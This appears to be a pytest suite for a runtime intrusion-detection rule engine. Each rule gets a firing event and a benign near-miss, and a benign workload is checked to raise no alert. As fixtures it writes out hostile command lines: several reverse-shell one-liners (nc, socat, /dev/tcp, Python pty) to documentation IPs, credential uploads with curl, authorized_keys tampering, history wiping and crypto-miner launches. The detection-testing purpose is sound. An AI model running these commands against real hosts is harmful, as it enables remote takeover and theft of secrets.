"""The default rules: each fires on the attack it names and stays quiet on a benign near-miss; a benign
workload (package installs, pip, builds, editors, git, ssh logins, systemd) raises no alert at all; every rule
carries MITRE ATT&CK tags and the fields outputs promise; the header lists exactly the event types used.

Events are built by hand the way the sensor fills them (model/event.py): absolute paths in fd.name, raw Linux
flag values in args, the process with its ancestors.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from falconet.rules import DEFAULT_RULES
from falconet.rules.engine import Engine, Resolvers
from falconet.model.event import Container, Event, Fd, Process, User

O_RDONLY, O_WRONLY, O_RDWR = 0, 0o1, 0o2
O_CREAT, O_TRUNC, O_APPEND, O_CLOEXEC = 0o100, 0o1000, 0o2000, 0o2000000
WRITE_NEW = O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC

MINER_POOL_IP = "198.51.100.7"
DNS = {"pool.minexmr.com": [MINER_POOL_IP], "github.com": ["140.82.112.3"]}

_pid = iter(range(1000, 100000))


def P(name: str, args: str = "", *, parent: Process | None = None, exepath: str | None = None,
      tty: int = 0, uid: int = 0, user: str = "root", cwd: str = "/root", **kw: Any) -> Process:  # fmt: skip
    """A process; exepath defaults to /usr/bin/NAME."""
    return Process(pid=next(_pid), ppid=parent.pid if parent else 1, name=name, exe=name,
                   exepath=exepath or f"/usr/bin/{name}", args=args.split(), cwd=cwd, tty=tty,
                   user=User(uid=uid, name=user), parent=parent, **kw)  # fmt: skip


SYSTEMD = P("systemd", exepath="/usr/lib/systemd/systemd")
SSHD = P("sshd", parent=SYSTEMD, exepath="/usr/sbin/sshd")
LOGIN_SHELL = P(
    "bash", parent=P("sshd", parent=SSHD, exepath="/usr/sbin/sshd"), exepath="/usr/bin/bash", tty=34816
)
ALICE_SHELL = P(
    "bash", parent=SSHD, exepath="/usr/bin/bash", tty=34817, uid=1000, user="alice", cwd="/home/alice"
)
NGINX = P("nginx", "-g daemon off;", parent=SYSTEMD, exepath="/usr/sbin/nginx", uid=33, user="www-data")
DPKG = P("dpkg", "-i foo.deb", parent=P("apt-get", "install foo", parent=LOGIN_SHELL))
GDB = P("gdb", "./a.out", parent=LOGIN_SHELL)
CONTAINER = Container(id="ee97d9c4186f", name="web", image="nginx:1.27", image_repository="nginx",
                      image_tag="1.27")  # fmt: skip
RUNC = P(
    "runc", exepath="/usr/bin/runc", parent=P("containerd-shim", exepath="/usr/bin/containerd-shim-runc-v2")
)

_num = iter(range(1, 10**9))


def ev(etype: str, proc: Process, *, res: int = 0, args: dict[str, Any] | None = None, fd: Fd | None = None,
       container: Container | None = None, **kw: Any) -> Event:  # fmt: skip
    return Event(num=next(_num), ts=1_700_000_000_000_000_000, type=etype, tid=proc.pid, res=res, proc=proc,
                 args=args or {}, fd=fd, container=container or Container(), **kw)  # fmt: skip


def open_(path: str, flags: int, proc: Process, *, res: int = 3, mode: int = 0o644, **kw: Any) -> Event:
    fd = Fd(num=res if res >= 0 else -1, type="file", name=path, nameraw=path, flags=flags)
    args = {"dirfd": -100, "name": path, "flags": flags, "mode": mode}
    return ev("openat", proc, res=res, args=args, fd=fd, **kw)


def read(path: str, proc: Process, **kw: Any) -> Event:
    return open_(path, O_RDONLY | O_CLOEXEC, proc, **kw)


def write(path: str, proc: Process, flags: int = WRITE_NEW, **kw: Any) -> Event:
    return open_(path, flags, proc, **kw)


def exec_(proc: Process, **kw: Any) -> Event:
    return ev("execve", proc, **kw)


def connect(ip: str, port: int, proc: Process, *, res: int = 0, **kw: Any) -> Event:
    fd = Fd(num=5, type="ipv4", name=f"10.0.0.2:40000->{ip}:{port}", l4proto="tcp", sockfamily="ip",
            cip="10.0.0.2", cport=40000, sip=ip, sport=port, connected=True)  # fmt: skip
    return ev("connect", proc, res=res, args={"fd": 5, "tuple": fd.name}, fd=fd, **kw)


@pytest.fixture(scope="module")
def engine() -> Engine:
    resolvers = Resolvers(hostname=lambda: "test-host", dns=lambda domain: DNS.get(domain, []))
    return Engine.from_files([DEFAULT_RULES], rule_matching="all", resolvers=resolvers)


# (rule, event that fires it, benign near-miss that must not)
CASES: list[tuple[str, Event, Event]] = [
    ("Read sensitive authentication file",
     read("/etc/shadow", P("cat", "/etc/shadow", parent=LOGIN_SHELL)),
     read("/etc/shadow", P("sshd", parent=SSHD, exepath="/usr/sbin/sshd"))),
    ("Read sensitive authentication file",
     read("/etc/sudoers.d/90-cloud-init-users", P("python3", "x.py", parent=LOGIN_SHELL)),
     read("/etc/passwd", P("python3", "x.py", parent=LOGIN_SHELL))),
    ("Read SSH private key",
     read("/home/alice/.ssh/id_ed25519", P("python3", "steal.py", parent=ALICE_SHELL)),
     read("/home/alice/.ssh/id_ed25519", P("ssh", "git@github.com", parent=P("git", "push", parent=ALICE_SHELL)))),
    ("Read SSH private key",
     read("/etc/ssh/ssh_host_ed25519_key", P("tar", "czf /tmp/k.tgz /etc/ssh", parent=LOGIN_SHELL)),
     read("/etc/ssh/ssh_host_ed25519_key.pub", P("tar", "czf /tmp/k.tgz /etc/ssh", parent=LOGIN_SHELL))),
    ("Read cloud credentials",
     read("/root/.aws/credentials", P("curl", "-T /root/.aws/credentials x", parent=LOGIN_SHELL)),
     read("/root/.aws/credentials", P("aws", "s3 ls", parent=LOGIN_SHELL))),
    ("Create symlink over sensitive file",
     ev("symlinkat", P("ln", "-s /etc/shadow /tmp/s", parent=LOGIN_SHELL),
        args={"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/s"}),
     ev("symlinkat", P("ln", "-s /etc/hosts /tmp/s", parent=LOGIN_SHELL),
        args={"target": "/etc/hosts", "linkdirfd": -100, "linkpath": "/tmp/s"})),
    ("Create hardlink over sensitive file",
     ev("linkat", P("ln", "/etc/shadow /tmp/s", parent=LOGIN_SHELL),
        args={"olddir": -100, "oldpath": "/etc/shadow", "newdir": -100, "newpath": "/tmp/s", "flags": 0}),
     ev("linkat", P("ln", "/tmp/a /tmp/b", parent=LOGIN_SHELL),
        args={"olddir": -100, "oldpath": "/tmp/a", "newdir": -100, "newpath": "/tmp/b", "flags": 0})),
    ("Modify SSH authorized keys",
     write("/root/.ssh/authorized_keys", P("bash", "-c echo key >> /root/.ssh/authorized_keys", parent=NGINX),
           O_WRONLY | O_CREAT | O_APPEND),
     write("/root/.ssh/authorized_keys", P("cloud-init", "modules", parent=SYSTEMD), WRITE_NEW)),
    ("Modify shell startup file",
     write("/home/alice/.bashrc", P("python3", "implant.py", parent=ALICE_SHELL, uid=1000, user="alice"),
           O_WRONLY | O_APPEND),
     write("/home/alice/.bashrc", P("vim", ".bashrc", parent=ALICE_SHELL, tty=34817, uid=1000, user="alice"))),
    ("Clear log file",
     write("/var/log/auth.log", P("bash", parent=LOGIN_SHELL)),
     write("/var/log/auth.log", P("bash", parent=LOGIN_SHELL), O_WRONLY | O_APPEND)),
    ("Delete or rename shell history",
     ev("unlinkat", P("rm", "-f /root/.bash_history", parent=LOGIN_SHELL),
        args={"dirfd": -100, "name": "/root/.bash_history", "flags": 0}),
     ev("renameat", P("bash", parent=LOGIN_SHELL),
        args={"olddirfd": -100, "oldpath": "/root/.bash_history-02117.tmp", "newdirfd": -100,
              "newpath": "/root/.bash_history"})),
    ("Delete or rename shell history",
     write("/home/alice/.zsh_history", P("zsh", "-c cat /dev/null > ~/.zsh_history", parent=ALICE_SHELL)),
     write("/home/alice/.zsh_history", P("zsh", parent=ALICE_SHELL), O_WRONLY | O_APPEND | O_CREAT)),
    ("Write below binary or library directory",
     write("/usr/bin/sshd-helper", P("curl", "-o /usr/bin/sshd-helper http://x", parent=LOGIN_SHELL)),
     write("/usr/bin/foo", P("dpkg", "--unpack foo.deb", parent=DPKG))),
    ("Write below binary or library directory",
     write("/usr/lib/x86_64-linux-gnu/libevil.so", P("cp", "x.so /usr/lib/x86_64-linux-gnu/", parent=LOGIN_SHELL)),
     write("/usr/lib/python3/dist-packages/yaml/__pycache__/nodes.cpython-311.pyc",
           P("python3.11", "-c import yaml", parent=LOGIN_SHELL, exepath="/usr/bin/python3.11"))),
    ("Write below etc",
     write("/etc/cron.d/backdoor", P("bash", "-c echo", parent=NGINX)),
     write("/etc/cron.d/foo", P("sh", "/var/lib/dpkg/info/foo.postinst configure", parent=DPKG))),
    ("Write below root",
     write("/root/payload.sh", P("curl", "-o /root/payload.sh http://x", parent=LOGIN_SHELL)),
     write("/root/.gitconfig.lock", P("git", "config --global user.name x", parent=LOGIN_SHELL))),
    ("Shell spawned by server process",
     exec_(P("sh", "-c id", parent=NGINX, exepath="/usr/bin/dash")),
     exec_(P("id", parent=NGINX))),
    ("Terminal shell in container",
     exec_(P("bash", parent=RUNC, tty=34818, exepath="/usr/bin/bash"), container=CONTAINER),
     exec_(P("bash", "/entrypoint.sh", parent=RUNC, exepath="/usr/bin/bash"), container=CONTAINER)),
    ("Reverse shell",
     exec_(P("nc", "-e /bin/sh 203.0.113.5 4444", parent=LOGIN_SHELL)),
     exec_(P("nc", "-zv 203.0.113.5 443", parent=LOGIN_SHELL))),
    ("Reverse shell",
     exec_(P("socat", "TCP:203.0.113.5:4444 EXEC:/bin/bash", parent=LOGIN_SHELL)),
     exec_(P("socat", "TCP-LISTEN:8080,fork TCP:127.0.0.1:80", parent=LOGIN_SHELL))),
    ("Reverse shell",
     exec_(P("bash", "-c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", parent=NGINX)),
     exec_(P("bash", "-c ls /dev", parent=LOGIN_SHELL))),
    ("Reverse shell",
     exec_(P("python3", "-c import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',4444));"
                        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')", parent=NGINX)),
     exec_(P("python3", "-c import socket; print(socket.gethostname())", parent=LOGIN_SHELL))),
    ("Redirect standard streams to network connection",
     ev("dup2", P("bash", parent=NGINX), res=1, args={"oldfd": 3, "newfd": 1},
        fd=Fd(num=1, type="ipv4", name="10.0.0.2:40000->203.0.113.5:4444", cip="10.0.0.2", cport=40000,
              sip="203.0.113.5", sport=4444, l4proto="tcp")),
     ev("dup2", P("bash", parent=LOGIN_SHELL), res=1, args={"oldfd": 3, "newfd": 1},
        fd=Fd(num=1, type="pipe"))),
    ("Package manager launched in container",
     exec_(P("apt-get", "install -y nmap", parent=P("bash", parent=RUNC)), container=CONTAINER),
     exec_(P("apt-get", "install -y nmap", parent=LOGIN_SHELL))),
    ("Remote copy tool launched in container",
     exec_(P("scp", "/data/db.sql user@203.0.113.5:", parent=P("bash", parent=RUNC)), container=CONTAINER),
     exec_(P("scp", "/data/db.sql user@203.0.113.5:", parent=LOGIN_SHELL))),
    ("Download tool launched in container",
     exec_(P("curl", "-sSL https://203.0.113.5/x.sh", parent=P("sh", parent=RUNC)), container=CONTAINER),
     exec_(P("curl", "-fs http://localhost:8080/healthz", parent=P("sh", parent=RUNC)), container=CONTAINER)),
    ("Execution from /dev/shm",
     exec_(P("x", exepath="/dev/shm/x", parent=LOGIN_SHELL)),
     exec_(P("ls", cwd="/dev/shm", parent=LOGIN_SHELL))),
    ("Fileless execution via memfd",
     exec_(P("kworker", exepath="/memfd:payload (deleted)", parent=LOGIN_SHELL, exe_from_memfd=True)),
     exec_(P("runc:[1:CHILD]", "init", exepath="/memfd:runc_cloned:/proc/self/exe", parent=RUNC,
             exe_from_memfd=True))),
    ("Crypto miner using the Stratum protocol",
     exec_(P("kthreadd2", "-o stratum+tcp://pool.example:3333 -u wallet", parent=LOGIN_SHELL)),
     exec_(P("python3", "-m http.server 3333", parent=LOGIN_SHELL))),
    ("Known crypto miner executed",
     exec_(P("xmrig", "--donate-level 1", parent=LOGIN_SHELL)),
     exec_(P("htop", parent=LOGIN_SHELL))),
    ("Outbound connection to crypto mining pool",
     connect(MINER_POOL_IP, 443, P("kthreadd2", parent=LOGIN_SHELL)),
     connect("140.82.112.3", 443, P("git-remote-http", parent=LOGIN_SHELL))),
    ("Outbound connection to crypto mining pool port",
     connect("203.0.113.9", 14444, P("kthreadd2", parent=LOGIN_SHELL), res=-115),
     connect("10.0.0.7", 3333, P("grafana", parent=SYSTEMD))),
    ("PTRACE attached to process",
     ev("ptrace", P("injector", "1234", parent=LOGIN_SHELL), args={"request": 16, "pid": 1234, "addr": 0,
                                                                   "data": 0}),
     ev("ptrace", P("gdb", "-p 1234", parent=LOGIN_SHELL), args={"request": 16, "pid": 1234, "addr": 0,
                                                                 "data": 0})),
    ("PTRACE anti-debug attempt",
     ev("ptrace", P("malware", parent=LOGIN_SHELL), args={"request": 0, "pid": 0, "addr": 0, "data": 0}),
     ev("ptrace", P("gdb", parent=GDB), args={"request": 0, "pid": 0, "addr": 0, "data": 0})),
    ("Set setuid or setgid bit",
     ev("fchmodat", P("chmod", "u+s /tmp/.sh", parent=LOGIN_SHELL),
        args={"dirfd": -100, "filename": "/tmp/.sh", "mode": 0o4755}),
     ev("fchmodat", P("chmod", "+x /tmp/run.sh", parent=LOGIN_SHELL),
        args={"dirfd": -100, "filename": "/tmp/run.sh", "mode": 0o755})),
    ("Non sudo setuid to root",
     ev("setuid", P("exploit", parent=ALICE_SHELL, uid=0), args={"uid": 0}, arg_text={"uid": "root"}),
     ev("setuid", P("sudo", "-i", parent=ALICE_SHELL, uid=0), args={"uid": 0}, arg_text={"uid": "root"})),
    ("Change namespace with setns",
     ev("setns", P("nsenter", "-t 1 -m -u -n -i sh", parent=LOGIN_SHELL), args={"fd": 3, "nstype": 0x20000}),
     ev("setns", P("runc", "exec", parent=RUNC), args={"fd": 3, "nstype": 0x20000})),
    ("Create namespace with unshare",
     ev("unshare", P("unshare", "-Urm", parent=ALICE_SHELL, uid=1000, user="alice"),
        args={"flags": 0x10000000 | 0x20000}),
     ev("unshare", P("bwrap", "--unshare-all", parent=ALICE_SHELL, uid=1000, user="alice"),
        args={"flags": 0x10000000 | 0x20000})),
    ("Mount in container",
     ev("mount", P("mount", "/dev/sda1 /mnt", parent=P("bash", parent=RUNC)),
        args={"dev": "/dev/sda1", "dir": "/mnt", "type": "ext4", "flags": 0}, container=CONTAINER),
     ev("mount", P("mount", "/dev/sdb1 /mnt", parent=LOGIN_SHELL),
        args={"dev": "/dev/sdb1", "dir": "/mnt", "type": "ext4", "flags": 0})),
    ("Kernel module loaded",
     ev("finit_module", P("loader", parent=LOGIN_SHELL), args={"fd": 3, "uargs": "", "flags": 0}),
     ev("finit_module", P("modprobe", "overlay", parent=SYSTEMD, exepath="/usr/sbin/modprobe"),
        args={"fd": 3, "uargs": "", "flags": 0})),
]  # fmt: skip


@pytest.mark.parametrize(
    ("rule", "fires", "near_miss"), CASES, ids=[f"{c[0]}#{i}" for i, c in enumerate(CASES)]
)
def test_rule_fires_and_near_miss_does_not(engine: Engine, rule: str, fires: Event, near_miss: Event) -> None:
    assert rule in engine.matching_rules(fires)
    assert rule not in engine.matching_rules(near_miss)
    alert = next(a for a in engine.process(fires) if a.rule == rule)
    assert "<NA>" not in alert.output.split("(", 1)[0]  # the sentence itself never has unknown values
    assert alert.output_fields["proc.name"] == fires.proc.name


def _rules() -> list[dict[str, Any]]:
    return [i for i in yaml.safe_load(DEFAULT_RULES.read_text()) if "rule" in i]


def test_every_rule_is_tested() -> None:
    assert {r["rule"] for r in _rules()} == {c[0] for c in CASES}


def test_every_rule_has_mitre_tactic_and_technique() -> None:
    for rule in _rules():
        tags = rule["tags"]
        assert any(t.startswith("mitre_") for t in tags), rule["rule"]
        assert any(re.fullmatch(r"T[A]?\d{4}(\.\d{3})?", t) for t in tags), rule["rule"]


def test_outputs_carry_the_context_fields() -> None:
    for rule in _rules():
        for field in (
            "%proc.name",
            "%proc.pname",
            "%proc.cmdline",
            "%user.name",
            "%fd.name",
            "%container.id",
        ):
            assert field in rule["output"], (rule["rule"], field)


def test_header_lists_exactly_the_event_types_used(engine: Engine) -> None:
    header = DEFAULT_RULES.read_text().split("- required_engine_version")[0]
    block = header.split("exactly what the rules need):")[1].split("#\n")[0]
    listed = {t.strip() for t in block.replace("#", " ").replace("\n", " ").split(",") if t.strip()}
    assert engine.event_types == frozenset(listed)
    assert engine.load_result.warnings == []


def benign_workload() -> Iterator[Event]:
    """What a quiet host does in a day, as the sensor would report it.

    Long on purpose: it is a script of ordinary actions read top to bottom, not logic to split.
    """
    # An ssh login: sshd checks the password and host keys, PAM helpers run, the shell starts.
    yield read("/etc/shadow", SSHD)
    yield read("/etc/ssh/ssh_host_ed25519_key", SSHD)
    yield read("/etc/shadow", P("unix_chkpwd", "alice nullok", parent=SSHD, exepath="/usr/sbin/unix_chkpwd"))
    yield read("/etc/pam.d/sshd", SSHD)
    yield exec_(ALICE_SHELL)
    yield read("/home/alice/.bashrc", ALICE_SHELL)
    yield ev("setuid", P("sshd", parent=SSHD, exepath="/usr/sbin/sshd"), args={"uid": 1000})
    # sudo and cron.
    sudo = P("sudo", "apt-get upgrade", parent=ALICE_SHELL)
    yield read("/etc/sudoers", sudo)
    yield read("/etc/sudoers.d/README", sudo)
    yield read("/etc/shadow", sudo)
    yield ev("setuid", P("cron", "-f", parent=SYSTEMD, exepath="/usr/sbin/cron"), args={"uid": 0})
    # Package installs: apt/dpkg writing /etc, binaries and libraries, maintainer scripts, setuid bits.
    yield exec_(P("apt-get", "install -y nginx", parent=sudo))
    yield write("/etc/nginx/nginx.conf", DPKG)
    yield write("/usr/sbin/nginx.dpkg-new", DPKG)
    yield write("/usr/lib/x86_64-linux-gnu/libfoo.so.1.dpkg-new", DPKG)
    postinst = P("sh", "/var/lib/dpkg/info/nginx.postinst configure", parent=DPKG)
    yield write("/etc/nginx/sites-enabled/default", postinst)
    yield write("/etc/ld.so.cache~", P("ldconfig", parent=DPKG, exepath="/usr/sbin/ldconfig"))
    yield ev("fchmodat", DPKG, args={"dirfd": -100, "filename": "/usr/bin/sudo", "mode": 0o4755})
    yield write("/etc/passwd", P("useradd", "-r nginx", parent=postinst))
    yield write("/etc/resolv.conf", P("NetworkManager", parent=SYSTEMD, exepath="/usr/sbin/NetworkManager"))
    # pip: into a venv, and system-wide as root (pip and `python -m pip`).
    venv_pip = P("pip", "install requests", parent=ALICE_SHELL, uid=1000, user="alice")
    yield write("/home/alice/proj/.venv/lib/python3.11/site-packages/requests/api.py", venv_pip)
    yield write("/home/alice/proj/.venv/bin/normalizer", venv_pip)
    yield write(
        "/usr/local/lib/python3.11/dist-packages/yaml/__init__.py",
        P("pip3", "install pyyaml", parent=LOGIN_SHELL),
    )
    mpip = P("python3", "-m pip install --upgrade pip setuptools", parent=LOGIN_SHELL)
    yield write("/usr/local/bin/pip3.11", mpip)
    yield write("/usr/local/lib/python3.11/dist-packages/x/_c.so", P("gcc", "-shared -o x", parent=mpip))
    yield write(
        "/usr/lib/python3/dist-packages/apt/__pycache__/cache.cpython-311.pyc",
        P("python3", "/usr/bin/unattended-upgrade", parent=SYSTEMD),
    )
    yield write(
        "/usr/lib/locale/locale-archive",
        P("localedef", "-i en_US -f UTF-8 en_US.UTF-8", parent=P("locale-gen", parent=LOGIN_SHELL)),
    )
    yield write("/root/.profile", P("rustup-init", "-y", parent=LOGIN_SHELL), O_WRONLY | O_APPEND)
    # A package build: compilers, linkers, tests, an archive.
    make = P("make", "-j2", parent=ALICE_SHELL, cwd="/home/alice/src/pkg", uid=1000, user="alice")
    yield exec_(P("cc1", parent=P("gcc", "-c x.c", parent=make)))
    yield read("/usr/include/stdio.h", P("cc1", parent=make))
    yield write("/home/alice/src/pkg/build/x.o", P("as", parent=make))
    yield write("/home/alice/src/pkg/build/app", P("ld", parent=make))
    yield exec_(P("sh", "-c ./configure", parent=make, exepath="/usr/bin/dash"))
    yield write(
        "/tmp/dpkg-build/usr/bin/app", P("install", "-m755 app /tmp/dpkg-build/usr/bin/", parent=make)
    )
    # Editors and git.
    vim = P("vim", "main.py", parent=ALICE_SHELL, tty=34817, uid=1000, user="alice")
    yield write("/home/alice/proj/.main.py.swp", vim)
    yield write("/home/alice/proj/main.py", vim)
    yield write("/home/alice/.viminfo.tmp", vim)
    yield write("/home/alice/.bashrc", vim)
    git = P("git", "commit -am wip", parent=ALICE_SHELL, uid=1000, user="alice")
    yield write("/home/alice/proj/.git/index.lock", git)
    yield write("/root/.gitconfig.lock", P("git", "config --global user.email a@b", parent=LOGIN_SHELL))
    ssh = P("ssh", "git@github.com git-upload-pack", parent=git)
    yield read("/home/alice/.ssh/id_ed25519", ssh)
    yield connect("140.82.112.3", 22, ssh)
    yield write("/home/alice/.ssh/known_hosts", ssh, O_WRONLY | O_APPEND | O_CREAT)
    yield connect("151.101.0.223", 443, venv_pip)
    # Shells rotating their history at exit.
    yield write("/root/.bash_history-01234.tmp", LOGIN_SHELL)
    yield ev(
        "renameat",
        LOGIN_SHELL,
        args={
            "olddirfd": -100,
            "oldpath": "/root/.bash_history-01234.tmp",
            "newdirfd": -100,
            "newpath": "/root/.bash_history",
        },
    )
    yield write("/root/.bash_history", LOGIN_SHELL, O_WRONLY | O_APPEND)
    zsh = P("zsh", parent=SSHD, tty=34819, uid=1000, user="alice", cwd="/home/alice")
    yield write("/home/alice/.zsh_history.new", zsh)
    yield ev(
        "rename", zsh, args={"oldpath": "/home/alice/.zsh_history.new", "newpath": "/home/alice/.zsh_history"}
    )
    yield ev("unlink", zsh, args={"path": "/home/alice/.zsh_history.LOCK"})
    # systemd and its services: namespaces for sandboxed units, state files, journald.
    unit = P("(cron)", parent=SYSTEMD, exepath="/usr/lib/systemd/systemd")
    yield ev("unshare", unit, args={"flags": 0x20000})
    yield ev("mount", unit, args={"dev": "tmpfs", "dir": "/tmp", "type": "tmpfs", "flags": 0})
    yield write(
        "/etc/machine-id",
        P("systemd-machine-id-setup", parent=SYSTEMD, exepath="/usr/bin/systemd-machine-id-setup"),
    )
    yield write(
        "/var/log/journal/abc/system.journal",
        P("systemd-journal", parent=SYSTEMD, exepath="/usr/lib/systemd/systemd-journald"),
        O_RDWR | O_CREAT,
    )
    yield write("/var/log/syslog", P("logrotate", "/etc/logrotate.conf", parent=SYSTEMD))
    yield write(
        "/etc/hostname", P("systemd-hostnam", parent=SYSTEMD, exepath="/usr/lib/systemd/systemd-hostnamed")
    )
    yield ev(
        "finit_module",
        P("systemd-modules", parent=SYSTEMD, exepath="/usr/lib/systemd/systemd-modules-load"),
        args={"fd": 3, "uargs": "", "flags": 0},
    )
    # A debugging session with gdb.
    yield ev("ptrace", GDB, args={"request": 16, "pid": 4242, "addr": 0, "data": 0})
    yield ev("ptrace", P("gdb", parent=GDB), args={"request": 0, "pid": 0, "addr": 0, "data": 0})
    # A web server doing its job.
    yield read("/etc/nginx/nginx.conf", NGINX)
    yield write("/var/log/nginx/access.log", NGINX, O_WRONLY | O_APPEND | O_CREAT)
    yield exec_(P("nginx", "-t", parent=NGINX, exepath="/usr/sbin/nginx"))
    # Failed opens of sensitive files are not reads.
    yield read("/etc/shadow", P("cat", "/etc/shadow", parent=ALICE_SHELL, uid=1000, user="alice"), res=-13)


def test_benign_workload_raises_no_alert(engine: Engine) -> None:
    noisy = [(e.type, e.proc.name, e.fd.name if e.fd else e.args, engine.matching_rules(e))
             for e in benign_workload() if engine.matching_rules(e)]  # fmt: skip
    assert noisy == []


def test_first_match_reports_the_most_specific_rule() -> None:
    first = Engine.from_files([DEFAULT_RULES], rule_matching="first")
    # A startup file under /etc/profile.d is also "below etc": the specific rule comes first and wins.
    event = write("/etc/profile.d/zz.sh", P("python3", "x.py", parent=NGINX))
    alerts = first.process(event)
    assert [a.rule for a in alerts] == ["Modify shell startup file"]
    assert set(first.matching_rules(event)) == {"Modify shell startup file", "Write below etc"}
